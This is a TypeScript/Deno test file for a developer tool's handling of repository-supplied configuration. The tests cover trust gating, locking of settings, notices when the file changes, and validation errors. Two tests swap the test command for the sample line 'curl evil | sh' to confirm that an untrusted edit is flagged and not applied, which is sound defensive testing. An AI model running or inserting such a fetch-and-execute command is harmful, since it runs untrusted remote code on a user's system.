/** Settings that a repository brings along: inert until trusted, in force as trusted, and locked elsewhere. */
import {
  deepStrictEqual as deepEqual,
  doesNotMatch,
  match,
  ok,
  rejects,
  strictEqual as equal,
  throws,
} from "node:assert";
import { readProjectConfig } from "../agents/project_config.ts";
import { mountApi } from "../server/routes/api.ts";
import { createEventStreams } from "../server/sse.ts";
import { countNeeds, listNeeds } from "../server/pages/needs.ts";
import { noticeConfig } from "../server/services/config_news.ts";
import { getCheckRules } from "../server/store/check_rules.ts";
import { getProject } from "../server/store/projects.ts";
import { never, TestRepo } from "./git_support.ts";
import { bench as httpBench } from "./http_support.ts";
import { pagesBench } from "./pages_support.ts";
import { testApp } from "./support.ts";

const FILE = ".gaffer/config.yaml";
const TEXT = `commands:
  build: make
  test:
    run: make test
    folder: web
    timeout_seconds: 60
checks:
  required: [test]
  rerun_failed: false
local_files: [.env]
`;

async function bench(files: Record<string, string> = { [FILE]: TEXT }) {
  const repo = await TestRepo.make(files);
  const app = testApp();
  const project = app.project({ path: repo.dir, name: "Game" });
  const api = httpBench({ app: app as never, api: (api) => mountApi(api, createEventStreams()) });
  const pages = pagesBench(app);
  return {
    ...{ repo, app, pages, project, at: `/projects/${project.id}` },
    page: async (path: string) => await (await pages.get(`/projects/${project.id}${path}`)).text(),
    async call(method: string, path: string, body?: unknown) {
      const answer = await api.http.request(`/api/v1/projects/${project.id}${path}`, {
        method,
        headers: { "content-type": "application/json", "if-match": "*" },
        ...body !== undefined && { body: JSON.stringify(body) },
      });
      return { status: answer.status, json: await answer.json() };
    },
    async [Symbol.asyncDispose]() {
      app[Symbol.dispose]();
      await repo[Symbol.asyncDispose]();
    },
  };
}

const hashIn = (html: string): string => /name="hash" value="([0-9a-f]+)"/.exec(html)![1]!;

Deno.test("a repository's configuration does nothing until it is trusted; then its settings are in force and locked", async () => {
  await using b = await bench();
  const before = getProject(b.app.db, b.project.id);
  match(await b.page("/config"), /Not trusted[^]*make test/);
  deepEqual(getProject(b.app.db, b.project.id), before, "looking changes nothing");
  const hash = hashIn(await b.page("/config"));
  equal((await b.pages.post(`${b.at}/config/trust`, { hash })).status, 303);
  const project = getProject(b.app.db, b.project.id);
  const commandOf = (name: string) => project.commands.find((one) => one.name === name)?.command;
  deepEqual([commandOf("build"), commandOf("test")], ["make", "make test"]);
  deepEqual(project.localFiles, [".env"]);
  const rules = getCheckRules(b.app.db, project.id);
  deepEqual([rules.required, rules.rerunFailed, rules.agentReviews], [["test"], false, true]);
  deepEqual(rules.commands.test, { timeoutMs: 60_000, folder: "web", env: {}, reports: [] });

  const settings = await b.page("");
  match(settings, /Set in line 4 of \.gaffer\/config\.yaml/);
  match(settings, /<input[^>]*name="test"[^>]*readonly/);
  doesNotMatch(settings, /<input[^>]*name="setup"[^>]*readonly/);
  const checks = await b.page("/checks");
  match(checks, /Set in line 9 of \.gaffer\/config\.yaml/);
  match(checks, /<input[^>]*name="rerun_failed"[^>]*disabled/);

  const refused = await b.call("PATCH", "", { commands: { test: "true" } });
  deepEqual([refused.status, refused.json.code], [409, "conflict"]);
  match(refused.json.detail, /sets it in line 4/);
  equal((await b.call("PATCH", "", { local_files: [] })).status, 409);
  equal(
    (await b.call("PATCH", "", { commands: { setup: "make deps", build: "make" } })).status,
    200,
  );
  const { json: now } = await b.call("GET", "/check-rules");
  equal((await b.call("PUT", "/check-rules", { ...now, rerun_failed: true })).status, 409);
  equal((await b.call("PUT", "/check-rules", { ...now, findings_back: true })).status, 200);
});

Deno.test("the forms of settings still save what is not locked, with what is as it is shown", async () => {
  await using b = await bench();
  const { json } = await b.call("GET", "/config");
  await b.call("POST", "/config/trust", { hash: json.hash });
  const form = { name: "Game 2", base_branch: "main", setup: "", build: "make", test: "make test" };
  const saved = await b.pages.post(b.at, { ...form, local_files: ".env" });
  equal(saved.status, 303, await saved.text());
  const wrong = await b.pages.post(b.at, { ...form, test: "true" });
  equal(wrong.status, 409);
  match(await wrong.text(), /sets it in line 4/);
  const checks = await b.page("/checks");
  match(checks, /<input type="hidden" name="test\.required" value="1"/);
  const rules = {
    "test.required": "1",
    "test.timeout_seconds": "60",
    "test.folder": "web",
    agent_reviews: "1",
    baseline_first: "1",
    findings_back: "1",
  };
  equal((await b.pages.post(`${b.at}/checks`, rules)).status, 303);
  equal(getCheckRules(b.app.db, b.project.id).findingsBack, true);
});

Deno.test("what was trusted stays in force when the file changes or goes, until a person looks again or does without", async () => {
  await using b = await bench();
  const { json } = await b.call("GET", "/config");
  await b.call("POST", "/config/trust", { hash: json.hash });
  await b.repo.commit("Other tests", { [FILE]: TEXT.replace("make test", "curl evil | sh") });
  const changed = await b.page("/config");
  match(changed, /Changed since[^]*What changed since it was trusted[^]*curl evil/);
  const commands = () => getProject(b.app.db, b.project.id).commands.map(({ command }) => command);
  deepEqual(commands(), ["make", "make test"]);
  const stale = await b.call("POST", "/config/trust", { hash: json.hash });
  equal(stale.status, 409);
  match(stale.json.detail, /it has changed since you looked at it/);
  await b.repo.git("rm", "-q", FILE);
  await b.repo.git("commit", "-qm", "Gone");
  match(await b.page("/config"), /The file is gone[^]*Do without it/);
  equal((await b.call("PATCH", "", { commands: { test: "true" } })).status, 409);
  equal((await b.pages.post(`${b.at}/config/distrust`)).status, 303);
  deepEqual(commands(), ["make", "make test"]);
  equal((await b.call("PATCH", "", { commands: { test: "true" } })).status, 200);
  match(await b.page("/config"), /This repository has no such file/);
  equal((await b.call("POST", "/config/distrust")).status, 409);
  equal((await b.call("POST", "/config/trust", { hash: json.hash })).status, 404);
});

Deno.test("Home tells that a trusted configuration has changed, until a person has looked at it", async () => {
  await using b = await bench();
  const { app, project, repo } = b;
  const { json } = await b.call("GET", "/config");
  const needs = () => listNeeds(app, null).filter(({ kind }) => kind === "config");
  const notice = () => noticeConfig(app, getProject(app.db, project.id), never);
  await repo.commit("Untrusted", { [FILE]: `${TEXT}# more\n` });
  await notice();
  deepEqual(needs(), [], "of what nobody trusts nothing is told");
  await repo.commit("As it was", { [FILE]: TEXT });
  await b.call("POST", "/config/trust", { hash: json.hash });
  await notice();
  deepEqual(needs(), []);

  // The page does not wait for git; what is found comes by its stream.
  await repo.commit("Other tests", { [FILE]: TEXT.replace("make test", "curl evil | sh") });
  const told = new Promise<void>((resolve) => {
    app.hub.subscribe((message) => {
      if (message.kind === "event" && message.event.type === "project_config_changed") resolve();
    });
  });
  await b.pages.get("/");
  await told;
  equal(needs().length, 1);
  equal(countNeeds(app, null).needs, 1);
  const home = await (await b.pages.get("/")).text();
  match(home, /The configuration in the repository of Game has changed/);
  match(home, new RegExp(`href="${b.at}/config"[^>]*>Look<`));

  // A second change is told anew, the one before can't be put off any more, and what is put off stays so.
  const changed = await b.page("/config");
  match(changed, /Keep what was trusted/);
  await repo.commit("Others again", { [FILE]: TEXT.replace("make test", "make tests") });
  const late = await b.call("POST", "/config/keep", { hash: hashIn(changed) });
  deepEqual([late.status, late.json.detail.includes("has changed since you looked")], [409, true]);
  const hash = hashIn(await b.page("/config"));
  equal((await b.pages.post(`${b.at}/config/keep`, { hash })).status, 303);
  await notice();
  deepEqual(needs(), []);
  doesNotMatch(await b.page("/config"), /Keep what was trusted/);

  await repo.git("rm", "-q", FILE);
  await repo.git("commit", "-qm", "Gone");
  await notice();
  match(
    await (await b.pages.get("/")).text(),
    /The configuration in the repository of Game is gone/,
  );
  equal((await b.call("POST", "/config/keep", { hash: "" })).status, 200);
  deepEqual(needs(), []);
  await repo.commit("Back", { [FILE]: TEXT });
  await notice();
  deepEqual(needs(), []);
  equal((await b.call("POST", "/config/keep", { hash: json.hash })).status, 409);
  await repo.commit("Once more", { [FILE]: `${TEXT}# more\n` });
  await notice();
  equal(needs().length, 1);
  equal((await b.call("POST", "/config/distrust")).status, 200);
  deepEqual(needs(), [], "nobody trusts it: nothing to tell");
  equal((await b.call("POST", "/config/keep", { hash })).status, 409);
});

Deno.test("where git can't say what the file says, nobody is told that it is gone", async () => {
  await using b = await bench();
  const { app, repo, project } = b;
  const { json } = await b.call("GET", "/config");
  await b.call("POST", "/config/trust", { hash: json.hash });
  await repo.commit("Other tests", { [FILE]: `${TEXT}# more\n` });
  const blob = await repo.git("rev-parse", `HEAD:${FILE}`);
  await Deno.remove(`${repo.dir}/.git/objects/${blob.slice(0, 2)}/${blob.slice(2)}`);
  await rejects(noticeConfig(app, project, never), { name: "GitError" });
  deepEqual(listNeeds(app, null), []);
});

Deno.test("a file that is wrong is refused with its line, key and what was expected", async () => {
  const refused = (text: string, message: RegExp) =>
    throws(() => readProjectConfig(text), { code: "invalid", message });
  refused("commands:\n  test: 5\n", /line 2, "commands\.test": expected keys with values, got 5/);
  refused("comands: {}\n", /line 1: expected no "comands" here/);
  refused("commands:\n  test:\n    folder: ../x\n", /line 3, "commands\.test\.folder"/);
  refused("checks:\n  required: [lint]\n", /line 2, "checks\.required\.0"/);
  refused('commands:\n  test:\n    env: { A: "$KEY" }\n', /line 3.*no value of Gaffer's own env/);
  // What the forms that show it could not carry back as it is.
  refused('commands:\n  test: "a\\nb"\n', /line 2, "commands\.test.*one line/);
  refused('commands:\n  test:\n    env: { A: " x" }\n', /line 3.*without spaces around it/);
  refused("checks: [\n", /\.gaffer\/config\.yaml: line/);
  refused("a: &x [1]\nb: *x\n", /no YAML aliases|expected no "a"/);
  refused(`#${"x".repeat(100_001)}`, /at most 100000 characters/);
  deepEqual(readProjectConfig("commands:\n  test: ''\n"), {
    ...{ commands: { test: "" }, rules: {}, checks: {}, lines: { test: 2 } },
  });
  deepEqual(readProjectConfig("commands:\n  test:\n    folder: web\n"), {
    ...{
      commands: {},
      rules: { test: { folder: "web" } },
      checks: {},
      lines: { "test.folder": 3 },
    },
  });
  await using b = await bench({ [FILE]: "commands:\n  test: 5\n" });
  match(await b.page("/config"), /Can(&#39;|')t be read[^]*line 2/);
  ok(!(await b.page("/config")).includes("Trust it as it is"));
  const { json } = await b.call("GET", "/config");
  equal(json.state, "unreadable");
  equal((await b.call("POST", "/config/trust", { hash: json.hash })).status, 422);
});
